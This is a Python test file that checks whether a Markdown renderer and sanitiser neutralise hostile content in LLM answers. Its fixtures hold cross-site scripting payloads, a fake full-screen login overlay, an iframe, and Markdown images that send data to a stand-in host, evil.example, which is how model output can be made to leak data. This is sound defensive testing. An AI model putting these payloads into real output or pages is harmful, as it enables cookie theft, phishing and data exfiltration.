"""LLM answers rendered from Markdown: hostile HTML, links and CSS come out inert; ordinary Markdown
(lists, bold, code, tables, links) survives. Both layers are checked: the renderer (raw HTML off) and
the sanitiser alone (the allow-list), so either one failing is caught."""
from __future__ import annotations

import re

import pytest

from vision_widgets.components.markdown import MarkdownView, render, sanitise

HOSTILE = {
    "script": "Here you go <script>alert(document.cookie)</script>",
    "img onerror": "Look: <img src=x onerror=alert(1)>",
    "javascript link": "[click me](javascript:alert(1))",
    "javascript link, mixed case": "[click me](JaVaScRiPt:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link in HTML": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
    "data link in Markdown": "[open](data:text/html;base64,PHNjcmlwdD4=)",
    "style": "<style>body { display: none }</style>",
    "fixed div": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</div>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "svg onload": "<svg onload=alert(1)></svg>",
    "image that phones home": "![chart](https://evil.example/collect?psi=0.31)",
}


def inert(html: str) -> None:
    """No tag that runs or loads anything, no event handler, no style, no dangerous URL."""
    lowered = html.lower()
    for tag in ("<script", "<style", "<iframe", "<img", "<svg", "<div", "<object", "<embed", "<form"):
        assert tag not in lowered, (tag, html)
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered), html
    assert not re.search(r"<[^>]*\sstyle\s*=", lowered), html
    for href in re.findall(r'<a\s[^>]*href="([^"]*)"', lowered):  # in a real tag (text has &lt;)
        assert href.startswith(("http://", "https://", "mailto:")), html


@pytest.mark.parametrize("answer", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_answer_renders_inert(answer):
    inert(render(answer))


@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>', "<style>p{}</style>", '<div style="position:fixed">x</div>',
    '<p onclick="x()" class="c" style="color:red">p</p>', '<iframe src="https://x"></iframe>',
], ids=["script", "onerror", "javascript", "data", "style", "style attribute", "on* and class", "iframe"])
def test_the_sanitiser_alone_removes_what_the_renderer_would_never_make(html):
    inert(sanitise(html))


def test_raw_html_in_an_answer_is_shown_as_text_not_dropped_silently():
    html = render("Here you go <script>alert(1)</script>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the reader sees what was written


def test_an_image_is_shown_as_its_alt_text_never_fetched():
    html = render("See ![the *PSI* chart](https://evil.example/x.png?leak=1) above.")
    assert html == "<p>See the <em>PSI</em> chart above.</p>\n"


def test_ordinary_markdown_survives():
    answer = (
        "## Why drift fired\n\n"
        "The **income** feature drifted (PSI *0.31*), and `age` did not.\n\n"
        "1. Check the income pipeline\n2. Compare window `2026-W40`\n\n"
        "- first\n- second\n\n"
        "| Feature | PSI |\n|:--|--:|\n| income | 0.31 |\n| age | 0.02 |\n\n"
        "```\npsi = sum((p - q) * log(p / q))\n```\n\n"
        "> a quote\n\n"
        "See [the PSI docs](https://example.org/psi) or ~~nothing~~.\n"
    )
    html = render(answer)
    for fragment in ("<h2>Why drift fired</h2>", "<strong>income</strong>", "<em>0.31</em>", "<code>age</code>",
                     "<ol>", "<li>Check the income pipeline</li>", "<ul>", "<li>first</li>",
                     "<table>", "<th>Feature</th>", "<td>income</td>", "<td>0.31</td>",
                     "<pre><code>psi = sum((p - q) * log(p / q))", "<blockquote>", "<s>nothing</s>"):
        assert fragment in html, fragment
    assert ('<a href="https://example.org/psi" target="_blank" rel="noopener noreferrer nofollow">the PSI docs</a>'
            in html)
    inert(html)


def test_the_widget_shows_only_rendered_markdown():
    view = MarkdownView("**bold** <img src=x onerror=alert(1)>")
    try:
        assert "<strong>bold</strong>" in view.value
        inert(view.value)
        view.show("[x](javascript:alert(1))")
        inert(view.value)
        assert view.markdown == "[x](javascript:alert(1))"
        assert "vision-markdown" in view._dom_classes
    finally:
        view.close()


@pytest.mark.parametrize("link", ["/vision/api/models", "../admin", "//evil.example/x", "#top", "logout",
                                  "?page=access"])
def test_a_relative_link_keeps_its_text_but_loses_its_address(link):
    for html in (render(f"[the access page]({link})"), sanitise(f'<a href="{link}">the access page</a>')):
        assert "the access page" in html and "href" not in html, html


def test_absolute_links_keep_their_address():
    html = render("[docs](https://example.org/a?b=1) and [mail](mailto:ops@example.org)")
    assert 'href="https://example.org/a?b=1"' in html and 'href="mailto:ops@example.org"' in html
